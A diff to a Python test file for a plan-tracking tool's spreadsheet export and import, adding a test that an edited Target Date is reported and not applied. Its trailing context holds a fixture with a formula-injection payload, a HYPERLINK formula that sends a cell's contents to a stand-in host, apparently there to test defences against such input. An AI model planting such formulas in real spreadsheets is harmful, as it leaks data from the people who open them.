@@ -267,6 +267,33 @@ def test_xlsx_export_imports_back_unchanged(demo, tmp_path):
     assert demo.json("action", "list", as_of="01/12/2022") == before
 
 
+def test_an_edited_target_date_beside_a_revised_date_is_said_not_taken(demo, tmp_path):
+    """From a new-user trial: SUFF-2.1's Target Date edited in an export came back as
+    "unchanged" without a word, and the clerk believed the edit was taken.  A baseline
+    stays as first agreed (a new date goes in Revised Date); the sheet's other one is said."""
+    from datetime import datetime
+
+    out = tmp_path / "plans.xlsx"
+    demo.ok("export", "--format", "xlsx", "--output", str(out))
+    book = load_workbook(out)
+    ws = book["SUFF"]
+    head = [c.value for c in ws[1]]
+    row = next(r for r in ws.iter_rows(min_row=2) if r[head.index("Ref")].value == "SUFF-2.1")
+    assert row[head.index("Revised Date")].value == datetime(2022, 9, 30)  # not rescheduled
+    row[head.index("Target Date")].value = datetime(2022, 12, 31)
+    book.save(out)
+    before = demo.json("action", "show", "SUFF-2.1", as_of="01/12/2022")
+    result = demo.json("import", str(out), as_of="01/12/2022")
+    assert result["counts"]["unchanged"] == 16
+    assert result["baselines_differ"] == [
+        f"SUFF row {row[0].row}: SUFF-2.1 31 Dec 2022 (its baseline is 30 Sep 2022)"]
+    said = " ".join(demo.ok("import", str(out), "--dry-run", as_of="01/12/2022").split())
+    assert ("Target dates that are not the baseline, not changed (a baseline stays as first agreed; a new date goes "
+            f"in Revised Date): sheet 'SUFF', row {row[0].row}: SUFF-2.1 31 Dec 2022 (its baseline is 30 Sep 2022).") \
+        in said
+    assert demo.json("action", "show", "SUFF-2.1", as_of="01/12/2022") == before
+
+
 FORMULA_TEXT = {
     "title": '=HYPERLINK("http://evil.example/?"&B2,"Click for the update")',
     "owner": "=Head of Service",
